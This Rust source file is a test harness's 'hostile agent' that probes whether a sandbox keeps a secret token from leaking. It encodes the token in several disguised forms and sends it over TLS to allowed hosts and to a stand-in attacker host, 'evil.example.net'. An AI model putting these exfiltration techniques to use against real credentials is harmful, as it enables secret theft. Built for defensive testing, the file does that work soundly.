//! The hostile agent: what runs inside the devbox (or, as the control, outside it with plain environment variables) and tries to get at the value.
//!
//! It reports every byte that it obtained, attempt by attempt; whether one of them was the value is judged outside.

use std::collections::BTreeMap;
use std::io::{self, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream, ToSocketAddrs};
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::mpsc;
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use rustls::{ClientConfig, ClientConnection, RootCertStore, StreamOwned};
use rustls_pki_types::pem::PemObject;
use rustls_pki_types::{CertificateDer, ServerName};
use serde::{Deserialize, Serialize};

use crate::answer::{self, Answer, Fault, Reply};
use crate::attempts::{Attempt, Channel, Control, To, Way, all};
use crate::clients;
use crate::outcome::{Obtained, Outcome};
use crate::shell;
use crate::whole::Asked;

/// What the agent knows: everything but the value.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct Knowledge {
    /// The variable that holds the token (or, in the control, the value).
    pub env: String,
    /// The host that the secret is bound to.
    pub bound: String,
    /// A host that the devbox may reach and the secret is not bound to.
    pub unbound: String,
    /// The server's data folder.
    pub data: PathBuf,
    /// The api's address.
    pub api: Option<SocketAddr>,
    /// The supervisor's process id outside.
    pub pid: u32,
    /// In the control: where each host is, since there is no gateway to ask.
    pub direct: BTreeMap<String, SocketAddr>,
    /// Whether it runs outside of any devbox, with a placeholder: the control of what walls alone hold back.
    #[serde(default)]
    pub unwalled: bool,
    /// Whether it has a network of its own, so that what is sent to nobody meets nobody.
    #[serde(default)]
    pub alone: bool,
    /// The bundle to trust.
    pub bundle: Option<PathBuf>,
    /// What is to be tried; everything where nothing is said.
    #[serde(default)]
    pub only: Vec<String>,
    /// What it is sent for.
    #[serde(default)]
    pub errand: Errand,
    /// A token of somebody else's, to be used in place of its own.
    #[serde(default)]
    pub foreign: Option<String>,
}

/// What the agent is sent for.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Errand {
    /// The attempts.
    #[default]
    Attempts,
    /// To use the token as it should be used, with every client that is there.
    Clients,
    /// To send these bytes to these hosts, and give what comes back.
    Asks(Vec<(String, String)>),
}

/// Runs the errand and writes what came of it to standard output.
///
/// # Errors
/// When the knowledge is not in `TIGHTLIP_PROBE`, or standard output is closed.
pub fn run() -> anyhow::Result<()> {
    let knowledge: Knowledge = serde_json::from_str(&std::env::var(KNOWLEDGE_VARIABLE)?)?;
    match &knowledge.errand {
        Errand::Attempts => many(&knowledge.attempts(), |attempt| (attempt.name.to_owned(), knowledge.make(attempt))),
        Errand::Clients => many(clients::ALL, |client| (client.name.to_owned(), client.use_it(&knowledge))),
        Errand::Asks(asked) => knowledge.ask_in_turn(asked),
    }
}

/// Does things many at a time, since most of them wait, and writes what came of each as it comes.
fn many<T: Sync>(all: &[T], make: impl Fn(&T) -> (String, Outcome) + Sync) -> anyhow::Result<()> {
    let next = AtomicUsize::new(0);
    let (tell, told) = mpsc::channel();
    std::thread::scope(|scope| {
        for _ in 0..HANDS.min(all.len()) {
            let (tell, next, make) = (tell.clone(), &next, &make);
            scope.spawn(move || {
                while let Some(one) = all.get(next.fetch_add(1, Ordering::Relaxed)) {
                    let (name, outcome) = make(one);
                    if tell.send(Obtained { name, outcome }).is_err() {
                        return;
                    }
                }
            });
        }
        drop(tell);
        let mut out = std::io::stdout().lock();
        told.iter().try_for_each(|obtained| obtained.write(&mut out))
    })
}

impl Knowledge {
    /// What stands in the agent's environment in place of the value.
    #[must_use]
    pub fn token(&self) -> String {
        self.foreign.clone().unwrap_or_else(|| std::env::var(&self.env).unwrap_or_default())
    }

    /// Whether there are no walls: the control.
    #[must_use]
    pub fn is_control(&self) -> bool {
        !self.direct.is_empty()
    }

    /// One request after the other, so that who answers them can tell one from the next.
    fn ask_in_turn(&self, asked: &[(String, String)]) -> anyhow::Result<()> {
        let mut out = std::io::stdout().lock();
        asked.iter().try_for_each(|(host, request)| {
            let reply = self.ask_bytes(host, &self.fill("asked", host, request));
            Obtained { name: host.clone(), outcome: answer::outcome(vec![reply], Answer::Http) }.write(&mut out)
        })
    }

    /// The attempts that the agent makes by itself.
    fn attempts(&self) -> Vec<&'static Attempt> {
        let is_wanted = |channel: Channel| self.only.is_empty() || self.only.iter().any(|word| word == channel.word());
        let is_here = |attempt: &Attempt| match attempt.control {
            Control::Leaks => !self.unwalled,
            Control::Reaches => !self.is_control(),
            Control::Arrives => !self.is_control() && (!self.unwalled || self.alone),
            Control::Absent => !self.unwalled && !self.is_control(),
        };
        let mine = all().into_iter().filter(|attempt| !matches!(attempt.way, Way::Outside(_) | Way::After(_)));
        mine.filter(|attempt| is_wanted(attempt.channel) && is_here(attempt)).collect()
    }

    fn make(&self, attempt: &Attempt) -> Outcome {
        match &attempt.way {
            Way::Does(make) => Outcome::Tried(make(self)),
            Way::Dials(dial) => answer::outcome(dial(self), attempt.answer),
            Way::Questions { over, questions } => {
                let replies = questions(self).iter().map(|question| over.ask(question, !self.unwalled)).collect();
                answer::outcome(replies, attempt.answer)
            }
            Way::Shell { needs, line } => shell::run(self, attempt, needs, line),
            Way::Asks { to, request } => {
                let host = self.host(*to);
                answer::outcome(vec![self.ask_bytes(host, &self.fill(attempt.name, host, request))], attempt.answer)
            }
            Way::Outside(_) | Way::After(_) => Outcome::NotTried("it is not the agent's".to_owned()),
        }
    }

    /// A host's name.
    #[must_use]
    pub fn host(&self, to: To) -> &str {
        match to {
            To::Bound => &self.bound,
            To::Unbound => &self.unbound,
            To::Narrow => NARROW,
            To::Strange => STRANGE,
        }
    }

    /// A request's bytes: `{T}` is the token, `{B}` Basic with it, `{H}` the host, `{BOUND}` and `{UNBOUND}` the two hosts, `{N}` the other secret's token, `{T1}` and
    /// `{T2}` the token's halves, `{L}` the long token, `{LB}` Basic with it, `{TP}` the token percent-encoded, `{TX}` one that differs from it in its last letter, `{CL}` the body's length, `{A}` a header that names the attempt to whoever receives it.
    #[must_use]
    pub fn fill(&self, name: &str, host: &str, request: &str) -> Vec<u8> {
        let token = self.token();
        let (first, second) = token.split_at(token.len() / 2);
        let percent: String = token.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let other = format!("{}{}", &token[..token.len().saturating_sub(1)], if token.ends_with('A') { 'B' } else { 'A' });
        let named = format!("{ATTEMPT_HEADER}: {name}\r\n");
        let filled = request
            .replace("{A}", &named)
            .replace("{H}", host)
            .replace("{BOUND}", &self.bound)
            .replace("{UNBOUND}", &self.unbound)
            .replace("{B}", &STANDARD.encode(format!("x-access-token:{token}")))
            .replace("{T1}", first)
            .replace("{T2}", second)
            .replace("{TP}", &percent)
            .replace("{TX}", &other)
            .replace("{N}", &std::env::var(NARROW_ENV).unwrap_or_default())
            .replace("{T}", &token);
        let long = std::env::var(LONG_ENV).unwrap_or_default();
        let filled = filled.replace("{LB}", &STANDARD.encode(format!("u:{long}"))).replace("{L}", &long);
        let body = filled.split_once("\r\n\r\n").map_or(0, |(_, body)| body.len());
        filled.replace("{CL}", &body.to_string()).into_bytes()
    }

    /// Sends `request` as it stands over TLS to `host` and gives every byte of the answer, with the error's text behind it.
    #[must_use]
    pub fn ask(&self, host: &str, request: &str) -> Vec<u8> {
        self.ask_bytes(host, request.as_bytes()).shown()
    }

    /// The same, of bytes.
    pub(crate) fn ask_bytes(&self, host: &str, request: &[u8]) -> Reply {
        self.ask_in_pieces(host, &[request])
    }

    /// The same, piece by piece, each on its way before the next.
    pub(crate) fn ask_in_pieces(&self, host: &str, pieces: &[&[u8]]) -> Reply {
        match self.find(host) {
            Some(address) => self.exchange(address, host.split(':').next().unwrap_or(host), pieces),
            None => Reply::unable("the name was not resolved"),
        }
    }

    /// Where a host is, as far as the agent can see.
    #[must_use]
    pub fn find(&self, host: &str) -> Option<SocketAddr> {
        let (name, port) = host.rsplit_once(':').map_or((host, 443), |(name, port)| (name, port.parse().unwrap_or(443)));
        self.direct.get(host).copied().or_else(|| (name, port).to_socket_addrs().ok()?.next())
    }

    /// The same, with the address and the TLS name given apart.
    pub(crate) fn ask_at(&self, address: SocketAddr, name: &str, request: &[u8]) -> Reply {
        self.exchange(address, name, &[request])
    }

    /// The same, at the address of another host.
    pub(crate) fn ask_found(&self, at: &str, name: &str, request: &[u8]) -> Reply {
        self.find(at).map_or_else(|| Reply::unable("the name was not resolved"), |address| self.ask_at(address, name, request))
    }

    fn exchange(&self, address: SocketAddr, name: &str, pieces: &[&[u8]]) -> Reply {
        let named = match name.parse::<IpAddr>() {
            Ok(address) => Ok(ServerName::from(address)),
            Err(_) => ServerName::try_from(name.to_owned()).map_err(anyhow::Error::new),
        };
        let connection = named.and_then(|name| Ok(ClientConnection::new(self.tls()?, name)?));
        let connection = match connection {
            Ok(connection) => connection,
            Err(error) => return Reply::unable(&error.to_string()),
        };
        let mut bytes = Vec::new();
        let sent = send(address, connection, pieces, &mut bytes);
        Reply { bytes, fault: sent.err().map(|error| Fault::of(&error)), asked: Asked::of(&pieces.concat()) }
    }

    fn tls(&self) -> anyhow::Result<Arc<ClientConfig>> {
        let bundle = self.bundle.clone().or_else(|| std::env::var_os("SSL_CERT_FILE").map(PathBuf::from)).unwrap_or_default();
        let mut roots = RootCertStore::empty();
        roots.add_parsable_certificates(CertificateDer::pem_file_iter(bundle)?.flatten());
        let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
        Ok(Arc::new(
            ClientConfig::builder_with_provider(provider)
                .with_safe_default_protocol_versions()?
                .with_root_certificates(roots)
                .with_no_client_auth(),
        ))
    }
}

/// Sends the pieces over TLS, and keeps what comes back until the connection ends or nothing more comes.
fn send(address: SocketAddr, connection: ClientConnection, pieces: &[&[u8]], out: &mut Vec<u8>) -> io::Result<()> {
    let stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_read_timeout(Some(ANSWER_PATIENCE))?;
    stream.set_nodelay(true)?;
    let mut stream = StreamOwned::new(connection, stream);
    for piece in pieces {
        stream.write_all(piece)?;
        stream.flush()?;
    }
    let mut buffer = vec![0; BUFFER_BYTES];
    while out.len() < ANSWER_BYTES_MAX {
        let got = stream.read(&mut buffer)?;
        if got == 0 {
            break;
        }
        out.extend_from_slice(&buffer[..got]);
        stream.sock.set_read_timeout(Some(PATIENCE))?;
    }
    Ok(())
}

/// The variable in which [`Knowledge`] is handed in, as JSON.
pub const KNOWLEDGE_VARIABLE: &str = "TIGHTLIP_PROBE";
/// The header that says which attempt a request belongs to.
pub const ATTEMPT_HEADER: &str = "X-Attempt";
/// The host of the other secret, which is bound to `GET /narrow`.
pub const NARROW: &str = "narrow.example.com";
/// The variable of the other secret.
pub const NARROW_ENV: &str = "NARROW_TOKEN";
/// The variable of the long secret, which is bound to the bound host.
pub const LONG_ENV: &str = "LONG_TOKEN";
/// A host that nobody allowed.
pub const STRANGE: &str = "evil.example.net";
/// How long one network step may take.
pub const PATIENCE: Duration = Duration::from_secs(3);
/// Attempts at a time.
const HANDS: usize = 12;
const ANSWER_BYTES_MAX: usize = 16 << 20;
const BUFFER_BYTES: usize = 64 << 10;
/// How long an answer's first byte may take: on a busy machine longer than a step, and what is late is no answer.
const ANSWER_PATIENCE: Duration = Duration::from_secs(10);
